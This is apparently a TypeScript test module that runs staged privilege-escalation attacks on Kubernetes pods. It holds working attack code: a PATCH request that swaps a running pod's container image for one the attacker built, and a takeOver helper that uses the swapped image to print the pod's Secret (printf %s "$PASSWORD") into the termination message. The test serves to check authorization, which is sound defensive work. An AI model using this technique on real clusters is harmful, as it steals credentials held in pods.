import { find, must, pathOf, waitFor } from "../../control-plane/act.ts";
import { ACCEPTED, type Attack } from "./attack.ts";
import { clearPods, container, FOREVER, IMAGE, podSpec } from "./kubelet.ts";
import { canaryIn, run, VICTIM } from "./real.ts";
import { fresh, nodeOf, type Stage } from "./stage.ts";

const contentType = "application/strategic-merge-patch+json";

/** An image of the real node whose program `work` waits. */
export async function victimImage(stage: Stage): Promise<string> {
  const files = { "/usr/local/bin/work": "#!/bin/sh\nexec sleep 10000\n" };
  return (await nodeOf(stage).image("registry.test/work:1", { files })).reference;
}

/** Puts its own image into the victim: its `work` runs this and leaves the output as the container's message. */
export async function takeOver(stage: Stage, script: string): Promise<string> {
  const files = { "/usr/local/bin/work": `#!/bin/sh\n(${script}) >/dev/termination-log\n` };
  const { reference } = await nodeOf(stage).image(`registry.test/${fresh("attacker")}:1`, { files });
  const path = pathOf("Pod", stage.namespace, VICTIM);
  const patch = (spec: object) => stage.send("PATCH", path, { spec }, { contentType });
  await patch({ containers: [{ name: "main", image: reference }] });
  // The answer to a patch is the pod with its status, to one that changes nothing as well.
  return waitFor(
    "the attacker's image to have run",
    async (note) => {
      const [status] = (await patch({}))["status"].containerStatuses;
      note(`${String(status.image)} ${Object.keys(status.state).join()}`);
      const { message } = status.state.terminated ?? {};
      return message !== undefined && canaryIn(stage, message);
    },
    { seconds: 60 },
  );
}

export const attacks: Attack[] = [
  {
    edge: "pods-patch",
    how: "its own image in a container that has the Secret",
    accepted: true,
    rights: (stage) => [stage.here("patch", "pods", VICTIM)],
    arrange: async (stage) => {
      const { plane, namespace } = stage;
      await clearPods(stage);
      const containers = [{ ...container(), image: "registry.example.com/app:1" }];
      const body = { metadata: { name: VICTIM, annotations: FOREVER }, spec: podSpec(stage, { containers }) };
      await must(plane, "POST", pathOf("Pod", namespace), body);
      await waitFor("the pod to run", async () => {
        return (await find(plane, "Pod", namespace, VICTIM))?.["status"].phase === "Running";
      });
    },
    attack: async (stage) => {
      const body = { spec: { containers: [{ name: "main", image: IMAGE }] } };
      const pod = await stage.send("PATCH", pathOf("Pod", stage.namespace, VICTIM), body, { contentType });
      return pod["spec"].containers[0].image === IMAGE ? ACCEPTED : "another image";
    },
  },
  {
    edge: "pods-patch",
    how: "its own image in a container that has the Secret, and restarts with it",
    onRealNode: true,
    rights: (stage) => [stage.here("patch", "pods", VICTIM)],
    arrange: async (stage) => {
      const main = { ...container(), image: await victimImage(stage), command: ["work"] };
      await run(stage, { containers: [main] });
    },
    attack: (stage) => takeOver(stage, 'printf %s "$PASSWORD"'),
  },
];
